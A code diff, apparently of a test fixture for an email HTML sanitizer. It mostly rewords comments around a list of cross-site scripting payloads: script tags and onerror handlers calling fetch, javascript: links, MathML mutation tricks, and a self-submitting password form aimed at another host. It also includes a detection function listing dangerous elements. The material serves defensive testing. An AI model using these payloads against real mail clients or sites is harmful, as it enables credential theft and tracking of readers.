@@ -1,11 +1,17 @@
 /** Something that a letter may try. */
 export interface Attack {
   readonly name: string;
-  /** What the letter has inside; whatever it gets to run or to load asks for an address below `url`, which is another host. */
+  /**
+   * The content of the letter; everything that it manages to run or load requests an address below `url`,
+   * which is another host.
+   */
   readonly html: (url: string) => string;
   /** Shown as it is, by a page without a policy, it reaches the other host with no act of the reader: the attack is one. */
   readonly works: boolean;
-  /** It is aimed at the own server, from which the frame loads pictures: the cleaning alone stands against it. */
+  /**
+   * It is aimed at the own server, from which the frame loads pictures: only the cleaning protects against
+   * it.
+   */
   readonly isOwn?: true;
 }
 
@@ -15,7 +21,7 @@ const lurks = (name: string, html: (url: string) => string): Attack => ({ name, 
 /** A picture that is not there and what runs for it. */
 const broken = (url: string) => `<img src=x onerror="fetch('${url}')">`;
 
-/** Attacks on whoever reads a letter: the cleaning is tried with them, and the page with real letters. */
+/** Attacks on the reader of a letter: the cleaning is tested with them, and the page with real letters. */
 export const attacks: readonly Attack[] = [
   // Scripts and handlers.
   works('script', (url) => `<script>fetch('${url}')</script>`),
@@ -51,7 +57,7 @@ export const attacks: readonly Attack[] = [
     (url) => `<svg><use href="${url}#x"/><use href="data:image/svg+xml,<svg id='x'/>#x"/></svg>`,
   ),
   lurks('mathml-link', (url) => `<math><mtext href="javascript:fetch('${url}')">x</mtext></math>`),
-  // What becomes something else when it is parsed again.
+  // Sources that become something else when they are parsed again.
   works(
     'mutation-by-mathml',
     (url) =>
@@ -123,7 +129,7 @@ export const attacks: readonly Attack[] = [
     'form-that-sends-itself',
     (url) => `<form action="${url}"><input name=password autofocus onfocus="this.form.submit()"></form>`,
   ),
-  // What waits for a click.
+  // Attacks that wait for a click.
   lurks('link-to-a-script', (url) => `<a href="javascript:fetch('${url}')">x</a>`),
   lurks(
     'link-to-a-script-in-signs',
@@ -148,7 +154,7 @@ export const attacks: readonly Attack[] = [
     'button-of-another-form',
     (url) => `<form id=f></form><button form=f formaction="${url}">x</button><isindex action="${url}">`,
   ),
-  // What is aimed at the page around it.
+  // Attacks on the page around the letter.
   lurks(
     'overlay',
     () =>
@@ -160,7 +166,7 @@ export const attacks: readonly Attack[] = [
       `<form id=x><input name=attributes><input name=parentNode></form><img name=getElementById><a id=body href="${url}">x</a><img id=documentElement name=documentElement><iframe name=top></iframe>`,
   ),
   works('deep-nesting', (url) => `${'<div>'.repeat(250)}${broken(url)}${'</div>'.repeat(250)}`),
-  // What a letter names its own files by.
+  // Names by which a letter refers to its own files.
   lurks(
     'odd-names-of-files',
     (url) =>
@@ -180,7 +186,10 @@ export const attacks: readonly Attack[] = [
   },
 ];
 
-/** What is left in a letter that may run, load or reach the page by itself. Stands alone, as browsers are sent it. */
+/**
+ * Returns everything in a letter that may run, load or reach the page by itself. Self-contained, as browsers
+ * receive its source.
+ */
 export function findFaults(root: ParentNode): string[] {
   const ELEMENTS =
     'script,form,input,button,select,textarea,iframe,frame,object,embed,link,meta,base,svg,math,video,audio,noscript';
